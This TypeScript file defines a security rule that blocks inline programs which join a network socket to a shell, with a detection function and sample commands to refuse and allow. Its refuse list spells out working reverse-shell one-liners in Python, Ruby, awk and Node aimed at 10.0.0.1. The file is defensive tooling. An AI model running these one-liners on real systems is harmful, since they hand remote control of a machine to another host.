import type { Code } from '../code/code.ts'
import type { CommandRule } from '../rule.ts'

const DUPLICATES = ['dup2', 'fdopen', 'pty', 'redirectErrorStream', 'stdin', 'STDIN', 'fcntl']

export const reverseShellCode: CommandRule = {
  name: 'command.reverse-shell-code',
  class: 'reverse-shell',
  explanation: 'Refuses inline programs of any language that open a socket and start a program.',
  remedy: 'Write a program that needs both into a file of the workspace, where it is reviewed.',
  refuses: [
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    `ruby -rsocket -e 'exec "sh", :in => TCPSocket.new("10.0.0.1", 1)'`,
    `awk 'BEGIN{s="/inet/tcp/0/10.0.0.1/4444"; while(1) s |& getline c}'`,
    `node -e 'require("child_process").exec("sh"); require("net").connect(4444,"10.0.0.1")'`,
  ],
  allows: [
    `python3 -c "import socket; print(socket.gethostname())"`,
    `python3 -c "import socket; socket.create_connection(('localhost', 5432))"`,
    `node -e "require('http').createServer((q, s) => s.end('ok')).listen(3000)"`,
    `python3 -c "import subprocess; subprocess.run(['git', 'status'])"`,
  ],
  *look(reading) {
    for (const code of reading.codes)
      if (connectsPrograms(code))
        yield {
          verdict: 'deny',
          reason: `The inline ${code.interpreter} program joins a socket to a program.`,
          span: code.span,
        }
  },
}

function connectsPrograms(code: Code): boolean {
  if (!code.opensSockets) return false
  if (code.strings.some((text) => /^\/inet6?\/(tcp|udp)\//.test(text))) return true
  if (
    code.startsPrograms ||
    code.strings.some((text) => /^(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh( -i)?$|^cmd(\.exe)?$/.test(text))
  )
    return true
  if (code.language === 'powershell') return code.names.has('iex') || code.names.has('Invoke-Expression')
  return (
    DUPLICATES.filter((name) => code.names.has(name)).length > 1 ||
    code.names.has('ztcp') ||
    (code.evaluates && code.names.has('gets'))
  )
}
